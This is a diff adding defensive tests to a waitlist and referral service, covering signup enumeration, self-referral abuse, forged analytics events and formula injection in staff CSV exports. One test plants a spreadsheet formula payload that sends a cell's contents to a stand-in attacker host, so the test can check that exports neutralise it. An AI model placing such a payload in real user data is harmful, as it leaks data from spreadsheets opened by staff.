@@ -10,6 +10,13 @@ import { cookieFor, createStaff, staffRequest } from './staff-helpers.ts';
 import { REFERRAL_BURST_LIMIT, REFERRAL_DAILY_CAP, listFlaggedReferrals } from '../../src/server/repositories/waitlist.ts';
 import { API } from '../../src/lib/routes.ts';
 import { call, closeDb, context, jsonRequest, truncate, useTestDatabase } from './helpers.ts';
+import pg from 'pg';
+import events from '../../functions/analytics-events.mts';
+import funnel from '../../functions/admin-analytics-funnel.mts';
+import adminExports from '../../functions/admin-exports.mts';
+import exportCsv from '../../functions/admin-analytics-export.mts';
+import { EXPORT_KINDS } from '../../src/lib/schemas/people.ts';
+import { REFERRER, SELF_REFERRAL_VARIANTS } from '../support/self-referral-variants.ts';
 
 const db = useTestDatabase();
 const post = (body: unknown, headers?: Record<string, string>) => call(waitlist, jsonRequest(API.waitlist, body, { headers }));
@@ -238,5 +245,190 @@ describe('referral credits', () => {
     await invite('lonely@example.com', 'noSuchCode1');
     expect(await credits()).toEqual([]);
     expect(await invitesOf('noSuchCode1')).toEqual({ invites: 0, xp: 0 });
+  });
+});
+
+// Issue 17 ------------------------------------------------------------------------------------
+
+const launch = (body: Record<string, unknown>) => call(notifyLaunch, jsonRequest(API.notifyLaunch, { name: 'Visitor', source: 'spiritual_quiz', ...body }));
+const invitesOf = async (code: string) => (await call(referrals, new Request(`http://localhost:8888/api/referrals/${code}`), context({ code }))).body;
+
+/** The SQL texts this process sends to Postgres while `work` runs (parameters are sent apart). */
+async function statementsDuring<T>(work: () => Promise<T>): Promise<{ result: T; statements: string[] }> {
+  const statements: string[] = [];
+  const original = pg.Client.prototype.query;
+  pg.Client.prototype.query = function (this: pg.Client, config: unknown, ...rest: unknown[]) {
+    statements.push(typeof config === 'string' ? config : String((config as { text?: string }).text));
+    return (original as (...args: unknown[]) => unknown).call(this, config, ...rest);
+  } as typeof original;
+  try {
+    return { result: await work(), statements };
+  } finally {
+    pg.Client.prototype.query = original;
+  }
+}
+
+describe('a listed email and a new one get the same answer after the same work (issue 17)', () => {
+  const cases = [
+    ['POST /api/waitlist', (email: string, ref?: string) => post({ email, ...(ref ? { ref } : {}) })],
+    ['POST /api/notify-launch', (email: string, ref?: string) => launch({ email, ...(ref ? { ref } : {}) })],
+    ['POST /api/notify-launch, phone only', (phone: string, ref?: string) => launch({ phoneNumber: phone, ...(ref ? { ref } : {}) })],
+  ] as const;
+
+  it.each(cases)('%s: status, body, headers and the statements sent to Postgres are the same', async (_label, signUp) => {
+    const phoneOnly = _label.endsWith('phone only');
+    const listedContact = phoneOnly ? '+44 7700 900001' : 'listed@example.com';
+    const newContact = (i: number) => (phoneOnly ? `+44 7700 90010${i}` : `new-${i}@example.com`);
+    await signUp(listedContact);
+    const inviter = await post({ email: 'inviter@example.com' });
+    for (const [i, ref] of [undefined, inviter.body.referralCode as string].entries()) {
+      // a stranger's repeat of a listed contact, then a new contact, each with or without a code
+      const listed = await statementsDuring(() => signUp(listedContact, ref));
+      const fresh = await statementsDuring(() => signUp(newContact(i), ref));
+      expect(listed.statements).toEqual(fresh.statements);
+      expect(listed.result.status).toBe(200);
+      expect(listed.result.status).toBe(fresh.result.status);
+      expect(Object.keys(listed.result.body).sort()).toEqual(Object.keys(fresh.result.body).sort());
+      expect(listed.result.body.message).toBe(fresh.result.body.message);
+      expect(listed.result.body.referralCode).toMatch(/^[A-Za-z0-9_-]{8}$/);
+      expect(listed.result.body.ownerToken).toMatch(/^[A-Za-z0-9_-]{43}$/);
+      expect([...listed.result.headers.entries()]).toEqual([...fresh.result.headers.entries()]);
+    }
+    // the stranger's repeats changed nothing: one record for the listed contact, one credit (the new one with the code)
+    expect(await invitesOf(inviter.body.referralCode)).toEqual({ invites: 1, xp: 10 });
+  });
+
+  it("the owner's own repeat runs the same statements too, and updates the record", async () => {
+    const owner = await launch({ email: 'owner@example.com' });
+    // the stranger's browser holds a token of its own (of its own record), as the owner's does
+    const strangersOwn = await launch({ email: 'stranger@example.com' });
+    const stranger = await statementsDuring(() => launch({ email: 'owner@example.com', name: 'Stranger', ownerToken: strangersOwn.body.ownerToken }));
+    const own = await statementsDuring(() => launch({ email: 'owner@example.com', name: 'Owner', ownerToken: owner.body.ownerToken }));
+    expect(own.statements).toEqual(stranger.statements);
+    expect(own.result.body.referralCode).toBe(owner.body.referralCode);
+    expect(stranger.result.body.referralCode).not.toBe(owner.body.referralCode);
+    const named = ((await db.execute(sql`SELECT email, name FROM launch_signups ORDER BY id`)) as unknown as { rows: unknown[] }).rows;
+    expect(named).toEqual([{ email: 'owner@example.com', name: 'Owner' }, { email: 'stranger@example.com', name: 'Visitor' }]);
+  });
+});
+
+describe('self-referral and duplicates up to the normalised email or phone (issue 17)', () => {
+  it.each(SELF_REFERRAL_VARIANTS)('the red team variant "$label" earns no credit', async (variant) => {
+    const referrer = await launch({ email: REFERRER.email, phoneNumber: REFERRER.phone });
+    const code = referrer.body.referralCode;
+    const response = variant.email ? await post({ email: variant.email, ref: code }) : await launch({ phoneNumber: variant.phone, ref: code });
+    expect(response.status).toBe(200);
+    expect(await invitesOf(code)).toEqual({ invites: 0, xp: 0 });
+    // someone else through the same code still earns the credit
+    await post({ email: 'a.real.friend@example.com', ref: code });
+    expect(await invitesOf(code)).toEqual({ invites: 1, xp: 10 });
+  });
+
+  it('one record per Gmail inbox, whatever dots, +tag or googlemail.com it is written with', async () => {
+    const first = await post({ email: 'john@gmail.com' });
+    for (const spelling of ['j.ohn@gmail.com', 'John+waitlist@googlemail.com', 'JOHN@gmail.com']) {
+      const again = await post({ email: spelling });
+      expect(again.status).toBe(200);
+      expect(again.body.referralCode).not.toBe(first.body.referralCode);
+    }
+    expect((await records()).map((row) => row.email)).toEqual(['john@gmail.com']);
+  });
+
+  it('a +tag at another provider is a separate record (it may be another inbox) but not a credited invitee', async () => {
+    const referrer = await post({ email: 'amina@example.com' });
+    await post({ email: 'amina+friend@example.com', ref: referrer.body.referralCode });
+    expect(await records()).toHaveLength(2);
+    expect(await invitesOf(referrer.body.referralCode)).toEqual({ invites: 0, xp: 0 });
+  });
+
+  it('phone-only signups deduplicate on the normalised phone', async () => {
+    const first = await launch({ phoneNumber: '+44 7700 900123' });
+    for (const spelling of ['0044 7700 900123', '+44-7700-900-123', '+44 (0)7700 900123']) {
+      const again = await launch({ phoneNumber: spelling, name: 'Someone else' });
+      expect(again.status).toBe(200);
+      expect(again.body.referralCode).not.toBe(first.body.referralCode);
+    }
+    const stored = ((await db.execute(sql`SELECT name, phone_number FROM launch_signups`)) as unknown as { rows: unknown[] }).rows;
+    expect(stored).toEqual([{ name: 'Visitor', phone_number: '+44 7700 900123' }]);
+    // the owner (its browser's token) may still update the record from another spelling
+    await launch({ phoneNumber: '0044 7700 900123', name: 'Owner', ownerToken: first.body.ownerToken });
+    expect(((await db.execute(sql`SELECT name FROM launch_signups`)) as unknown as { rows: unknown[] }).rows).toEqual([{ name: 'Owner' }]);
+  });
+});
+
+describe('Growth Funnel referral conversions come from stored referrals, not the beacon (issue 17)', () => {
+  const BROWSER_UA = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Safari/537.36';
+  const conversions = async (cookie: string) => {
+    const { body } = await call(funnel, staffRequest('GET', API.analyticsFunnel.path({ period: '7d' }), { cookie }));
+    return body.steps.find((step: { key: string }) => step.key === 'referralConversions').count as number;
+  };
+
+  it('20 forged beacon events leave the figure at 0; a real referred signup makes it 1', async () => {
+    await truncate('analytics_events', 'analytics_daily', 'staff_accounts');
+    const cookie = await cookieFor((await createStaff('funnel-admin', 'Super Admin')).id);
+    for (let i = 0; i < 20; i++) {
+      const forged = await call(events, jsonRequest(API.events, { type: 'referral_converted', source: 'referral' }, { headers: { 'User-Agent': BROWSER_UA } }), context({}, `198.51.100.${i}`));
+      expect(forged.status).toBe(400);
+      expect(forged.body.error).toMatch(/counted by the server/);
+    }
+    expect(await conversions(cookie)).toBe(0);
+
+    const referrer = await post({ email: 'sharer@example.com' });
+    await post({ email: 'friend@example.com', ref: referrer.body.referralCode });
+    expect(await conversions(cookie)).toBe(1);
+    // a repeat, a self-referral and an unknown code convert nobody
+    await post({ email: 'friend@example.com', ref: referrer.body.referralCode });
+    await post({ email: 'sharer+2@example.com', ref: referrer.body.referralCode });
+    await post({ email: 'lonely@example.com', ref: 'noSuchCode1' });
+    expect(await conversions(cookie)).toBe(1);
+    // the beacon still takes the events it may send
+    const joined = await call(events, jsonRequest(API.events, { type: 'waitlist_joined', waitlistSource: 'self_assessment', source: 'referral' }, { headers: { 'User-Agent': BROWSER_UA } }), context());
+    expect(joined.status).toBe(202);
+  });
+});
+
+/** Cells of an RFC 4180 CSV text (quotes, doubled quotes, line breaks inside quotes). */
+function csvCells(text: string): string[] {
+  const cells: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
+      else if (c === '"') quoted = false;
+      else cell += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',' || c === '\n') cells.push(cell.replace(/\r$/, '')), (cell = '');
+    else cell += c;
+  }
+  return [...cells, cell];
+}
+
+describe('a formula planted through the notify-launch name is text in every staff export (issue 17)', () => {
+  const PLANTED = 'x;=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
+
+  it('no cell of any export starts a formula, even where a spreadsheet splits at ; , tab or a line break', async () => {
+    await truncate('staff_accounts', 'analytics_events', 'analytics_daily');
+    const cookie = await cookieFor((await createStaff('export-admin', 'Super Admin')).id);
+    // The stranger joins with the planted name and gets a friend to sign up through their code, so
+    // they appear as an inviter in the Referrals export.
+    const planted = await launch({ name: PLANTED, email: 'planter@example.com' });
+    await post({ email: 'planted-friend@example.com', ref: planted.body.referralCode });
+
+    const exports: [string, Response][] = [];
+    for (const kind of EXPORT_KINDS) exports.push([kind, await adminExports(staffRequest('GET', API.adminExport.path(kind), { cookie }), context({ kind }))]);
+    for (const view of ['funnel', 'blog'] as const) exports.push([view, await exportCsv(staffRequest('GET', API.analyticsExport.path({ period: '7d', view }), { cookie }), context())]);
+    let seen = 0;
+    for (const [kind, response] of exports) {
+      expect(response.status, kind).toBe(200);
+      const text = (await response.text()).replace(/^\uFEFF/, '');
+      for (const cell of csvCells(text)) {
+        if (cell.includes('evil.example/?leak=')) seen++;
+        for (const piece of [cell, ...cell.split(/[;,\t\r\n]/)]) expect(/^\s*[=+\-@]/.test(piece), `${kind}: ${JSON.stringify(cell)}`).toBe(false);
+      }
+    }
+    // the name did reach an export (the Referrals one), as text (other files' data may hold other formulas)
+    expect(seen).toBe(1);
   });
 });
